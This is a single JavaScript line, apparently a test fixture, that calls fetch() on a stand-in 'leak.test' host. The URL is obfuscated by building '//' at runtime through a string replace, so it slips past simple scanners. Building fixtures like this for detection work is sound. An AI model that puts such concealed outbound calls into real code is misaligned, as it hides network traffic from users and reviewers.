fetch("https:--js-fold-replace.leak.test/".replace("--", "//"))
